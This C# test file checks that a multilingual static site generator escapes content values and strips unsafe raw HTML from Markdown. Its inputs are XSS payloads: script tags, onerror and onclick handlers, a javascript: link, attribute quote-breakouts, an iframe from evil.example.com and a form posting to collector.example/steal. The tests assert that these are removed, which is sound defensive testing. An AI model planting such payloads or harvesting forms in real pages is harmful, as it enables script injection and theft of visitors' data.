using ForeignAffairs.Diagnostics;
using ForeignAffairs.Tests.Support;

namespace ForeignAffairs.Tests.Integration;

/// <summary>
/// Every value from content is escaped wherever a template writes it; only rendered Markdown is HTML.
/// </summary>
public sealed class EscapingTests
{
    private const string Script = "<script>alert(1)</script>";

    [Fact]
    public void A_title_holding_a_script_tag_is_text_on_every_page_that_shows_it()
    {
        using var fixture = FixtureSite.Copy("three-languages");
        const string project = "content/projects/yen-phong-park/index.yaml";
        // The input: the project's title, in every language, starts with a script tag.
        var titles = new Dictionary<string, string>
        {
            ["en"] = $"{Script} Yên Phong park", ["ja"] = $"{Script} イエンフォン", ["ko"] = $"{Script} 옌퐁",
        };
        var lines = File.ReadAllLines(Path.Combine(fixture.Root, project));
        Assert.StartsWith("title:", lines[0]);
        lines[0] = "title: {" + string.Join(", ", titles.Select(t => $"{t.Key}: \"{t.Value}\"")) + "}";
        fixture.Write(project, string.Join('\n', lines) + "\n");

        var built = fixture.BuildSuccessfully();

        var shown = 0;
        foreach (var page in built.Pages)
        {
            var document = built.Page(page);
            Assert.Empty(document.QuerySelectorAll("script"));
            shown += document.QuerySelectorAll("h1, a, title")
                .Count(e => e.TextContent.Contains(Script, StringComparison.Ordinal));
        }
        // The project's page, the home page, the list and the province's related list, in three languages, plus titles.
        Assert.True(shown >= 12, $"the title was shown as text only {shown} times");
        foreach (var (language, title) in titles)
        {
            var heading = built.Page($"{language}/projects/yen-phong-park/index.html").QuerySelector("h1");
            Assert.Equal(title, heading?.TextContent);
        }
    }

    [Fact]
    public void Raw_html_in_markdown_keeps_what_is_harmless_and_loses_scripts_handlers_and_script_links()
    {
        using var fixture = FixtureSite.Copy("three-languages");
        fixture.Write("content/sectors/electronics/en.md",
            "Before <script>alert(2)</script> <b onclick=\"x()\">bold</b> after.\n\n" +
            "<img src=\"x.gif\" alt=\"x\" onerror=\"alert(3)\"> <a href=\"javascript:alert(4)\">click</a>\n\n" +
            "<table><tr><td>kept</td></tr></table>\n");
        fixture.Write("content/sectors/electronics/x.gif", "x");
        var built = fixture.BuildSuccessfully();
        var body = built.Page("en/sectors/electronics/index.html").QuerySelector("#body")!;
        Assert.Empty(body.QuerySelectorAll("script, [onclick], [onerror]"));
        Assert.DoesNotContain("alert(2)", body.TextContent, StringComparison.Ordinal);
        Assert.Equal("bold", body.QuerySelector("b")!.TextContent);
        Assert.Null(body.QuerySelector("a")!.GetAttribute("href"));
        Assert.Equal("kept", body.QuerySelector("table td")!.TextContent);

        var warning = Assert.Single(built.Result.Diagnostics);
        Assert.Equal(DiagnosticCodes.RawHtmlRemoved, warning.Code);
        Assert.Equal(new SourceLocation("content/sectors/electronics/en.md", 1, 8), warning.Location);
        Assert.Contains("<script>", warning.Message, StringComparison.Ordinal);
        Assert.Contains("onclick=", warning.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Raw_html_forms_and_their_fields_are_removed_with_a_warning()
    {
        using var fixture = FixtureSite.Copy("three-languages");
        fixture.Write("content/sectors/electronics/en.md",
            "Write to us.\n\n<form action=\"https://collector.example/steal\" method=\"post\"><label>Mail</label>\n" +
            "<input name=\"email\"> <textarea name=\"message\"></textarea> " +
            "<select name=\"topic\"><option>Land</option></select>\n" +
            "<button type=\"submit\">Send</button></form>\n\n<b>kept</b>\n");
        var built = fixture.BuildSuccessfully();
        var body = built.Page("en/sectors/electronics/index.html").QuerySelector("#body")!;
        Assert.Empty(body.QuerySelectorAll("form, input, textarea, select, option, button, [action]"));
        Assert.Equal("kept", body.QuerySelector("b")!.TextContent);

        var warning = Assert.Single(built.Result.Diagnostics);
        Assert.Equal((DiagnosticCodes.RawHtmlRemoved, new SourceLocation("content/sectors/electronics/en.md", 3, 1)),
            (warning.Code, warning.Location));
        Assert.StartsWith("raw HTML that is not allowed was removed from the page: <form>", warning.Message,
            StringComparison.Ordinal);
    }

    [Fact]
    public void An_iframe_is_kept_only_from_a_host_that_site_yaml_lists()
    {
        using var fixture = FixtureSite.Copy("three-languages");
        File.AppendAllText(Path.Combine(fixture.Root, "content/site.yaml"),
            "iframe_hosts: [www.youtube-nocookie.com]\n");
        fixture.Write("content/sectors/electronics/en.md",
            "<iframe src=\"https://www.youtube-nocookie.com/embed/abc\" title=\"Video\"></iframe>\n\n" +
            "<iframe src=\"https://evil.example.com/x\" title=\"Other\"></iframe>\n");
        var built = fixture.BuildSuccessfully();
        var frames = built.Page("en/sectors/electronics/index.html").QuerySelectorAll("#body iframe");
        Assert.Equal(["https://www.youtube-nocookie.com/embed/abc"], frames.Select(f => f.GetAttribute("src")));
    }

    [Fact]
    public void Values_in_attributes_cannot_break_out_of_their_quotes()
    {
        using var fixture = FixtureSite.Copy("three-languages");
        fixture.Write("content/sectors/electronics/index.yaml",
            "title: {en: 'Quote\" onmouseover=\"alert(1)', ja: 電子, ko: 전자}\n" +
            "summary: \"'><img src=x onerror=alert(1)>\"\n");
        var built = fixture.BuildSuccessfully();
        var page = built.Page("en/sectors/electronics/index.html");
        Assert.Equal("'><img src=x onerror=alert(1)>",
            page.QuerySelector("meta[name=description]")!.GetAttribute("content"));
        Assert.Empty(page.QuerySelectorAll("img, [onmouseover], [onerror]"));
        Assert.Equal("Quote\" onmouseover=\"alert(1)", page.QuerySelector("h1")!.TextContent);
    }
}
